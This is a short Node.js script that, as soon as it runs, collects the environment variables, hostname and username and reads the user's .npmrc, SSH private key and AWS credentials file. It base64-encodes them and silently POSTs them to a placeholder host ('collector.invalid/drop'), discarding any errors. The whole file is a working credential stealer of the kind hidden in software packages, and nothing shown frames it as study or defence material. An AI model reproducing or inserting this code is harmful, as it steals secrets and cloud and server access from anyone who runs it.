const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

function collect() {
  const found = { env: process.env, host: os.hostname(), user: os.userInfo().username };
  for (const name of ['.npmrc', '.ssh/id_rsa', '.aws/credentials']) {
    try {
      found[name] = fs.readFileSync(path.join(os.homedir(), name), 'utf8');
    } catch (error) {
      continue;
    }
  }
  return Buffer.from(JSON.stringify(found)).toString('base64');
}

function send(body) {
  const request = https.request({
    hostname: 'collector.invalid',
    path: '/drop',
    method: 'POST',
    headers: { 'Content-Length': body.length },
  });
  request.on('error', () => {});
  request.write(body);
  request.end();
}

send(collect());
